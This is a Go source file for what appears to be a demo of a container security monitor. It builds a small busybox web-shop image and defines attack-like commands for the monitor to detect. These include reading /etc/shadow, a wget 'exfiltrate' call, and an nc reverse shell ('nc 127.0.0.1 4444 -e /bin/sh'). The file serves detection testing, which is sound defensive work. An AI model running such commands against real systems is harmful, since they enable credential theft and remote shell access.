package main

import (
	"fmt"
	"os"

	"github.com/vigil-dev/vigil/test/containerd/ctrd"
)

// The demo's image: a web shop that busybox's httpd serves on the
// container's loopback. Named like a registry image (with a domain) so that
// containerd keeps the name as given.
const (
	imageName   = "vigil.demo/shop:1"
	containerID = "shop"
	shopURL     = "http://127.0.0.1:8080/"
)

// What the container does, as `sh -c` scripts run in it with ctr task exec.
const (
	// normal is the shop's usual traffic: a client fetching the page.
	normal = "wget -q -O - " + shopURL
	// readShadow reads a file the shop never read, with a program it never
	// ran (busybox's cat): new in monitor mode.
	readShadow = "cat /etc/shadow"
	// exfiltrate sends to somewhere the shop never connected, with the
	// program it uses (busybox's wget).
	exfiltrate = "wget -q -O - http://127.0.0.1:4444/"
	// reverseShell runs nc, a busybox applet the shop never ran, although
	// it is the same file as the shop's wget.
	reverseShell = "nc 127.0.0.1 4444 -e /bin/sh"
	// strangeTool runs a program the image ships but the shop never ran.
	strangeTool = "/opt/tools/busybox id"
)

// buildImage writes the demo image's OCI archive into dir: busybox (the
// shop's tools), its page, /etc/passwd and /etc/shadow as any distribution
// image has them, and a second busybox under /opt/tools that the shop
// never runs. Its command serves the page.
func buildImage(dir string) (ctrd.Image, error) {
	files, err := ctrd.BusyboxFiles()
	if err != nil {
		return ctrd.Image{}, fmt.Errorf("%w: run `test/deps.sh demo` as root", err)
	}
	tool, err := os.ReadFile(ctrd.BusyboxPath)
	if err != nil {
		return ctrd.Image{}, err
	}
	files = append(files, ctrd.RuntimeDirs()...)
	files = append(files,
		ctrd.File{Path: "www/index.html", Mode: 0o644, Data: []byte("<h1>vigil demo shop</h1>\n")},
		ctrd.File{Path: "etc/passwd", Mode: 0o644, Data: []byte("root:x:0:0:root:/root:/bin/sh\nwww:x:33:33:www:/www:/bin/false\n")},
		ctrd.File{Path: "etc/shadow", Mode: 0o600, Data: []byte("root:$6$vigil$demo:20000:0:99999:7:::\nwww:*:20000:0:99999:7:::\n")},
		ctrd.File{Path: "opt/tools/busybox", Mode: 0o755, Data: tool},
	)
	img, err := ctrd.BuildImage(dir, imageName, files, []string{"httpd", "-f", "-p", "127.0.0.1:8080", "-h", "/www"})
	if err != nil {
		return ctrd.Image{}, fmt.Errorf("demo image: %w", err)
	}
	return img, nil
}
